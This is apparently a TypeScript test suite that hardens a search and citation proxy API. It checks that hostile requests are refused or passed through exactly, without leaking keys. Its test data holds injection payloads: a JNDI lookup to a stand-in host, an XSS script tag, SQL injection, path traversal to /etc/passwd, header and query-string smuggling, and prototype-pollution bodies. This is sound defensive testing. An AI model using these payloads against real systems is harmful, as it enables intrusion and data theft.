/**
 * Hostile requests against every endpoint of ROUTES, over real HTTP: each must get the status and code of
 * docs/decisions.md §2 in the exact envelope, details naming the field, nothing from the stack or the
 * environment, and no upstream call unless the request is valid (then the upstream gets the text exactly).
 */
import { createHash } from 'node:crypto';
import { afterAll, describe, expect, it, vi } from 'vitest';
import type { ErrorCode } from '../../lib/errors.js';
import { capturedLogLines } from '../support/capture-logs.js';
import { type Reply, seenBodies, TEST_CLIENT_KEY, TEST_UPSTREAM_KEY, useService } from '../support/service.js';
import { type Body, everyRoute, type RouteFacts, routesWithoutFacts } from './facts.js';
import { countLeaks, expectClean, expectFailure, expectNoKeyIn, expectSuccess, rawRequest, reportSummary } from './support.js';

// The first request to each endpoint loads its handler's modules (citation styles among them), which took
// over 20 s beside eight busy processes on two cores: a timeout here catches a hang, not a slow machine.
vi.setConfig({ testTimeout: 120_000 });

const SECRETS = [TEST_UPSTREAM_KEY, TEST_CLIENT_KEY, createHash('sha256').update(TEST_CLIENT_KEY).digest('hex')];
const AUTH = `Bearer ${TEST_CLIENT_KEY}`;

const tally = { tried: 0, asSpecified: 0, rejected: 0, callsForRejected: 0 };

const harness = useService({
  // The warm-container caches would answer a repeated valid request without the upstream, and every
  // case here counts upstream calls.
  SEARCH_CACHE_MAX: '0',
  CITE_CACHE_MAX: '0',
});

afterAll(async () => {
  const texts = [...seenBodies];
  reportSummary('hostile-inputs', {
    order: 1,
    text: `hostile inputs: ${tally.tried} tried, ${tally.asSpecified} answered as specified, ${tally.callsForRejected} upstream calls for the ${tally.rejected} rejected`,
    bodiesChecked: texts.length,
    logLinesChecked: capturedLogLines.length,
    leaks: countLeaks([...texts, ...capturedLogLines], SECRETS),
  });
});

/** A request that must be refused with `code` (naming `field`), reach no upstream, and reveal nothing. */
async function rejects(send: () => Promise<Reply>, code: ErrorCode, field?: string): Promise<Reply> {
  tally.tried += 1;
  tally.rejected += 1;
  const before = harness.upstream.calls();
  const reply = await send();
  const calls = harness.upstream.calls() - before;
  tally.callsForRejected += calls;
  expectFailure(reply, code, field);
  expectClean(reply.text, SECRETS);
  expect(calls, 'upstream calls for a rejected request').toBe(0);
  tally.asSpecified += 1;
  return reply;
}

/**
 * A valid request: 200 in the success envelope, and when `text` is given, every upstream call that
 * carries the search text carries exactly `text` (decoded), once, beside one engine and one key.
 */
async function accepts(send: () => Promise<Reply>, facts: RouteFacts, text?: string): Promise<Reply> {
  tally.tried += 1;
  const before = harness.upstream.requests.length;
  const reply = await send();
  expectSuccess(reply);
  expectClean(reply.text, SECRETS);
  const calls = harness.upstream.requests.slice(before);
  expect(calls.length, 'upstream calls for a valid request').toBeGreaterThan(0);
  for (const query of calls) {
    expect(query.getAll('api_key')).toEqual([TEST_UPSTREAM_KEY]);
    expect(query.getAll('engine')).toHaveLength(1);
  }
  if (text !== undefined) {
    const carrying = calls.filter((query) => query.get('engine') === facts.engine && query.has(facts.text.param));
    expect(carrying).toHaveLength(facts.textCalls);
    for (const query of carrying) expect(query.getAll(facts.text.param)).toEqual([facts.text.sent?.(text) ?? text]);
  }
  tally.asSpecified += 1;
  return reply;
}

function withoutAuth(path: string, body: Body) {
  return harness.service.post(path, body, { headers: { Authorization: '' } });
}

// Strings that must reach the upstream exactly (trimmed), or be refused naming the field, per the contract.
const TEXTS: [string, string][] = [
  ['empty', ''],
  ['whitespace only', ' \t\n\u00a0 '],
  ['2048 characters', 'a'.repeat(2048)],
  ['2049 characters', 'a'.repeat(2049)],
  ['10 000 characters', 'a'.repeat(10_000)],
  ['a NUL character', 'a\u0000b'],
  ['a bell', 'a\u0007b'],
  ['an ANSI escape', 'a\u001b[31mred'],
  ['DEL', 'a\u007fb'],
  ['CR LF (header injection)', 'coffee\r\nX-Injected: 1'],
  ['an inner tab', 'a\tb'],
  ['a lone high surrogate', 'a\ud800b'],
  ['a lone low surrogate', '\udfff'],
  ['surrogates in the wrong order', '\udc00\ud800'],
  ['emoji with joiners', '☕ 🔥 👩\u200d👩\u200d👧'],
  ['Arabic with a right-to-left mark', 'قهوة \u200f'],
  ['a right-to-left override', '\u202etxt.exe'],
  ['a combining accent', 'cafe\u0301'],
  ['a zero-width space', 'zero\u200bwidth'],
  ['CJK', '咖啡 豆'],
  ['surrounding spaces', '   padded   '],
  ['C1 controls (not ASCII)', 'a\u0085b\u009bc'],
  ['a line separator inside', 'a\u2028b'],
  ['query-string injection', 'coffee&api_key=stolen&engine=bing'],
  ['percent-encoded injection', 'coffee%26api_key%3Dstolen'],
  ['plus, hash and question mark', 'a+b #frag ?x=1'],
  ['markup', '<script>alert(1)</script>'],
  ['SQL', "' OR 1=1 --"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a log-injection lookup is the hostile input
  ['a template lookup', '${jndi:ldap://example.invalid/a}'],
  ['a Windows path', 'C:\\Windows\\win.ini'],
  ['an identifier', 'LSsXyncAAAAJ'],
  ['an identifier with spaces around', '  LSsXyncAAAAJ  '],
  ['a citation id', 'LSsXyncAAAAJ:u5HHmVD_uO8C'],
];

// The wrong-type values of docs/decisions.md §4 and their neighbours, as raw JSON: the value the server parses.
const INTEGER_VALUES = ['"2"', '2.5', '-1', '1e9', '"NaN"', 'null', 'true', '[]', '{}', '1e400', '9007199254740993', '-0', '1.0'];

function integerAccepted(raw: string, fact: { min: number; max?: number }): boolean {
  const value: unknown = JSON.parse(raw);
  return (
    typeof value === 'number' && Number.isSafeInteger(value) && value >= fact.min && (fact.max === undefined || value <= fact.max)
  );
}

/** A raw JSON body: the route's minimal body with extra raw members, which JSON.stringify cannot express. */
function rawBody(body: Body, ...members: string[]): string {
  return `{${[...members, ...Object.entries(body).map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`)].join(',')}}`;
}

describe('the route table', () => {
  it('has hardening facts for every route in ROUTES', () => {
    expect(routesWithoutFacts()).toEqual([]);
  });
});

describe('unknown paths', () => {
  it.each([
    '/v1/web-search/echo',
    '/',
    '/v1',
    '/v1/web-search/alpha/',
    '/V1/WEB-SEARCH/ALPHA',
    '/v2/web-search/alpha',
    '/v1/alpha/scholar',
    '/v1/web-search/alpha%00',
    '/v1/web-search/alpha/..%2F..%2Fetc%2Fpasswd',
  ])('answers 404 NOT_FOUND for %s, with or without a key, whatever the method', async (path) => {
    await rejects(() => harness.service.post(path, { q: 'coffee' }), 'NOT_FOUND');
    await rejects(() => withoutAuth(path, { q: 'coffee' }), 'NOT_FOUND');
    // GET / on the local server is its signpost to /docs and /openapi.json (test/integration/docs.test.ts).
    if (path !== '/') await rejects(() => harness.service.post(path, {}, { method: 'GET' }), 'NOT_FOUND');
  });
});

for (const { route, facts } of everyRoute()) {
  const { path } = route;
  const valid = facts.body;
  const textField = facts.text.field;

  describe(`${path} (${facts.family})`, () => {
    it('accepts its minimal body, and answers with its own request id, not one the client chose', async () => {
      const reply = await accepts(
        () => harness.service.post(path, valid, { headers: { 'X-Request-Id': 'client-chosen<id>' } }),
        facts,
      );
      expect(reply.headers.get('x-request-id')).not.toBe('client-chosen<id>');
    });

    it.each([
      ['an unterminated object', '{"q": '],
      ['unquoted keys', '{q: "x"}'],
      ['single quotes', "{'q':'x'}"],
      ['a trailing comma', '{"q":"x",}'],
      ['a second closing brace', '{"q":"x"}}'],
      ['NaN', 'NaN'],
      ['whitespace only', ' \n '],
    ])('answers 400 MALFORMED_JSON naming the body for %s', async (_name, text) => {
      await rejects(() => harness.service.post(path, text), 'MALFORMED_JSON', 'body');
    });

    it.each([
      ['an array', '[]'],
      ['an array holding the body', JSON.stringify([valid])],
      ['null', 'null'],
      ['a number', '42'],
      ['a string', '"coffee"'],
      ['true', 'true'],
    ])('answers 400 INVALID_REQUEST naming the body for %s', async (_name, text) => {
      await rejects(() => harness.service.post(path, text), 'INVALID_REQUEST', 'body');
    });

    it(`treats an empty body as {} and names the missing ${textField}`, async () => {
      const reply = await rejects(() => harness.service.post(path, ''), 'INVALID_REQUEST', textField);
      expect(reply.json.error.details).toMatch(/is required/);
      await rejects(() => harness.service.post(path, {}), 'INVALID_REQUEST', textField);
    });

    it('answers 413 PAYLOAD_TOO_LARGE for 17 KiB and 2 MiB bodies, counting bytes not characters', async () => {
      await rejects(() => harness.service.post(path, facts.text.set(valid, 'a'.repeat(17 * 1024))), 'PAYLOAD_TOO_LARGE', 'body');
      await rejects(() => harness.service.post(path, 'x'.repeat(2 * 1024 * 1024)), 'PAYLOAD_TOO_LARGE', 'body');
      // 6000 characters of three bytes each: 18 000 bytes.
      await rejects(() => harness.service.post(path, facts.text.set(valid, '☕'.repeat(6000))), 'PAYLOAD_TOO_LARGE', 'body');
    });

    it('reads a body of exactly 16 KiB, and refuses one byte more', async () => {
      const sized = (bytes: number) => {
        const empty = JSON.stringify(facts.text.set(valid, ''));
        return JSON.stringify(facts.text.set(valid, 'a'.repeat(bytes - Buffer.byteLength(empty))));
      };
      expect(Buffer.byteLength(sized(16 * 1024))).toBe(16 * 1024);
      // Read and validated: the text is far too long, so it is the field that is refused, not the size.
      await rejects(() => harness.service.post(path, sized(16 * 1024)), 'INVALID_REQUEST', textField);
      await rejects(() => harness.service.post(path, sized(16 * 1024 + 1)), 'PAYLOAD_TOO_LARGE', 'body');
    });

    it.each(['colour', 'Q', 'q ', 'api_key', 'engine', 'toString', 'hasOwnProperty'])(
      'answers 400 INVALID_REQUEST naming the unknown field %j',
      async (field) => {
        await rejects(() => harness.service.post(path, { ...valid, [field]: 'x' }), 'INVALID_REQUEST', field);
      },
    );

    it('refuses __proto__ and constructor keys by name, and pollutes no prototype', async () => {
      await rejects(
        () => harness.service.post(path, rawBody(valid, '"__proto__":{"polluted":"yes","q":"x"}')),
        'INVALID_REQUEST',
        '__proto__',
      );
      await rejects(
        () => harness.service.post(path, rawBody(valid, '"constructor":{"prototype":{"polluted":"yes"}}')),
        'INVALID_REQUEST',
        'constructor',
      );
      await rejects(
        () => harness.service.post(path, rawBody(valid, '"prototype":{"polluted":"yes"}')),
        'INVALID_REQUEST',
        'prototype',
      );
      // The server runs in this process: a polluted prototype would show here.
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    });

    it('refuses a field nested 8000 levels deep without a stack overflow', async () => {
      const deep = `${'['.repeat(8000)}${']'.repeat(8000)}`;
      await rejects(() => harness.service.post(path, rawBody(valid, `"deep":${deep}`)), 'INVALID_REQUEST', 'deep');
      await rejects(
        () => harness.service.post(path, rawBody({}, `${JSON.stringify(textField)}:${deep}`)),
        'INVALID_REQUEST',
        textField,
      );
    });

    it.each([
      ['a number', 5],
      ['null', null],
      ['an object', { $ne: '' }],
      ['true', true],
    ])(`answers 400 INVALID_REQUEST naming ${textField} when it is %s`, async (_name, value) => {
      await rejects(() => harness.service.post(path, facts.text.set(valid, value)), 'INVALID_REQUEST', textField);
    });

    it.each(TEXTS)(`sends %s in ${textField} to the upstream exactly, or refuses it by name`, async (_name, text) => {
      const body = facts.text.set(valid, text);
      if (facts.text.accepts(text)) await accepts(() => harness.service.post(path, body), facts, text.trim());
      else await rejects(() => harness.service.post(path, body), 'INVALID_REQUEST', textField);
    });

    it('lets the last of two duplicate keys win, as JSON does, and sends only that one', async () => {
      const first = facts.text.withToken('first');
      const last = facts.text.withToken('last');
      const members = [
        JSON.stringify(facts.text.set({}, first)).slice(1, -1),
        JSON.stringify(facts.text.set({}, last)).slice(1, -1),
      ];
      const others = Object.fromEntries(Object.entries(valid).filter(([key]) => key !== textField));
      await accepts(() => harness.service.post(path, rawBody(others, ...members)), facts, last);
    });

    for (const [field, fact] of Object.entries(facts.integers)) {
      const boundaries = [
        String(fact.min - 1),
        String(fact.min),
        ...(fact.max === undefined ? [] : [String(fact.max), String(fact.max + 1)]),
      ];
      it.each([...INTEGER_VALUES, ...boundaries])(`takes %s for the integer ${field} only if it is one in range`, async (raw) => {
        const body = rawBody(valid, `${JSON.stringify(field)}:${raw}`);
        if (integerAccepted(raw, fact)) await accepts(() => harness.service.post(path, body), facts);
        else await rejects(() => harness.service.post(path, body), 'INVALID_REQUEST', field);
      });
    }

    it.each(facts.extra.map((c) => [c.name, c] as const))('answers 400 INVALID_REQUEST for %s', async (_name, c) => {
      await rejects(() => harness.service.post(path, c.body), 'INVALID_REQUEST', c.field);
    });

    it.each([
      ['no Authorization header', ''],
      ['the Basic scheme', `Basic ${Buffer.from(`user:${TEST_CLIENT_KEY}`).toString('base64')}`],
      ['the key with no scheme', TEST_CLIENT_KEY],
      ['an empty Bearer key', 'Bearer'],
      ['a wrong key', 'Bearer wrong-key'],
      ['the key in another case', `Bearer ${TEST_CLIENT_KEY.toUpperCase()}`],
      ['the key with a suffix', `${AUTH}x`],
      ['a tab instead of a space', `Bearer\t${TEST_CLIENT_KEY}`],
      ['an 8 KiB key', `Bearer ${'k'.repeat(8 * 1024)}`],
    ])('answers 401 UNAUTHORIZED with WWW-Authenticate: Bearer for %s', async (_name, authorization) => {
      const reply = await rejects(
        () => harness.service.post(path, valid, { headers: { Authorization: authorization } }),
        'UNAUTHORIZED',
      );
      expect(reply.headers.get('www-authenticate')).toBe('Bearer');
      expect(reply.json.error.details).toBe('Send the header "Authorization: Bearer <API key>" with a valid key');
    });

    it.each([
      ['two spaces after the scheme', `Bearer  ${TEST_CLIENT_KEY}`],
      ['a lower-case scheme', `bearer ${TEST_CLIENT_KEY}`],
      ['an upper-case scheme', `BEARER ${TEST_CLIENT_KEY}`],
    ])('accepts %s', async (_name, authorization) => {
      await accepts(() => harness.service.post(path, valid, { headers: { Authorization: authorization } }), facts);
    });

    it('checks the key before the body: an unauthenticated caller learns nothing about it', async () => {
      await rejects(() => harness.service.post(path, '{"q": ', { headers: { Authorization: '' } }), 'UNAUTHORIZED');
      await rejects(() => withoutAuth(path, facts.text.set(valid, 'a'.repeat(17 * 1024))), 'UNAUTHORIZED');
      await rejects(
        () => harness.service.post(path, valid, { headers: { Authorization: '', 'Content-Type': 'text/plain' } }),
        'UNAUTHORIZED',
      );
    });

    it.each([
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/json-patch+json',
      'application/jsonp',
      'text/json',
    ])('answers 415 UNSUPPORTED_MEDIA_TYPE for Content-Type %s', async (type) => {
      await rejects(
        () => harness.service.post(path, valid, { headers: { 'Content-Type': type } }),
        'UNSUPPORTED_MEDIA_TYPE',
        'Content-Type',
      );
    });

    it('checks the size before the type, and the type before the JSON', async () => {
      const big = JSON.stringify(facts.text.set(valid, 'a'.repeat(17 * 1024)));
      await rejects(() => harness.service.post(path, big, { headers: { 'Content-Type': 'text/plain' } }), 'PAYLOAD_TOO_LARGE');
      await rejects(
        () => harness.service.post(path, '{"q": ', { headers: { 'Content-Type': 'text/plain' } }),
        'UNSUPPORTED_MEDIA_TYPE',
      );
    });

    it('accepts JSON with a charset, in any case, and a body with no Content-Type at all', async () => {
      await accepts(
        () => harness.service.post(path, valid, { headers: { 'Content-Type': 'application/json; charset=utf-8' } }),
        facts,
      );
      await accepts(() => harness.service.post(path, valid, { headers: { 'Content-Type': 'Application/JSON' } }), facts);
      await accepts(
        () => rawRequest(harness.service.url, path, { headers: { Authorization: AUTH }, body: JSON.stringify(valid) }),
        facts,
      );
    });

    it.each(['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])(
      'answers 405 METHOD_NOT_ALLOWED with Allow: POST for %s, before looking at the key',
      async (method) => {
        const reply = await rejects(() => harness.service.post(path, valid, { method }), 'METHOD_NOT_ALLOWED');
        expect(reply.headers.get('allow')).toBe('POST');
        await rejects(() => harness.service.post(path, valid, { method, headers: { Authorization: '' } }), 'METHOD_NOT_ALLOWED');
      },
    );

    it('answers HEAD with 405 and Allow: POST, and no upstream call', async () => {
      tally.tried += 1;
      const before = harness.upstream.calls();
      const reply = await rawRequest(harness.service.url, path, { method: 'HEAD', headers: { Authorization: AUTH } });
      expect(reply.status).toBe(405);
      expect(reply.headers.get('allow')).toBe('POST');
      expect(harness.upstream.calls()).toBe(before);
      tally.asSpecified += 1;
    });
  });
}

describe('keys', () => {
  it('never puts the upstream key, a client key or its digest in a response body or a log line', () => {
    expect(seenBodies.length).toBeGreaterThan(100);
    expectNoKeyIn(seenBodies, SECRETS);
    expectNoKeyIn(capturedLogLines, SECRETS);
  });
});
